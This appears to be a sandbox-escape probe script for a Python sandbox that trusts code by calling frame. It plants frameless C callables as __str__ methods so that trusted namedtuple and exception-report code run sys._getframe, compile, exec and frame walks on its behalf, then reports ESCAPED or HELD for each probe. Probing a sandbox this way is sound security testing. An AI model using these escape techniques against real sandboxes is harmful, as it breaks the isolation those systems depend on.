# held: 4
# Layer 2 probe: trust is given to the *Python frame* that raised an event, but a C callable (functools.partial, map, iter(callable, sentinel), operator.attrgetter) pushes no frame: one planted where trusted code calls back into user objects (str() of field names in namedtuple, str() of an exception in exception_report) runs with the trusted frame on top and borrows its trust.
real_import = [c.cell_contents for c in __import__.__closure__ if type(c.cell_contents).__name__ == "builtin_function_or_method" and c.cell_contents.__name__ == "__import__"][0]
B = real_import("builtins")
sys = real_import("sys")
functools = real_import("functools")
operator = real_import("operator")
from collections import namedtuple


def capture(fn):
    """A C-only chain that calls fn() and keeps its result: no Python frame is pushed."""
    store = []
    return store, functools.partial(next, map(store.append, iter(fn, object())))


# 1. namedtuple is trusted for sys._getframe; it calls str() on every field name.
frames, grab = capture(sys._getframe)
class GetFrame:
    __str__ = grab
try:
    namedtuple("X", [GetFrame()])
except BaseException:
    pass
print(f"ESCAPED namedtuple sys._getframe: {frames[0]!r}" if frames else "HELD namedtuple sys._getframe")

# 2. namedtuple is trusted for compile and exec.
codes, grab = capture(functools.partial(B.compile, "6*7", "<x>", "eval"))
class Compile:
    __str__ = grab
try:
    namedtuple("X", [Compile()])
except BaseException:
    pass
print(f"ESCAPED namedtuple compile: {codes[0]!r}" if codes else "HELD namedtuple compile")

ran = []
class Exec:
    __str__ = functools.partial(B.exec, "ran.append(1)", {"ran": ran})
try:
    namedtuple("X", [Exec()])
except BaseException:
    pass
print("ESCAPED namedtuple exec" if ran else "HELD namedtuple exec")

# 3. exception_report is trusted for object.__getattr__ (tb_frame) and calls str(exc).
try:
    1 / 0
except ZeroDivisionError as err:
    tb = err.__traceback__
report_frames = []
class First(Exception):
    __str__ = functools.partial(next, map(report_frames.append, map(operator.attrgetter("tb_frame"), [tb])))

class Second(Exception):
    def __str__(self):
        if not report_frames:
            return "HELD exception_report tb_frame"
        frame = report_frames[0]
        try:
            while frame is not None:
                if "CONFIG" in frame.f_globals:
                    return "ESCAPED exception_report tb_frame -> zygote globals %r" % sorted(
                        k for k in frame.f_globals if k.isupper())
                frame = frame.f_back
            return "ESCAPED exception_report tb_frame %r" % report_frames[0]
        except BaseException as err:
            return "ESCAPED exception_report tb_frame %r (%s)" % (report_frames[0], type(err).__name__)

try:
    raise First()
except First:
    raise Second()
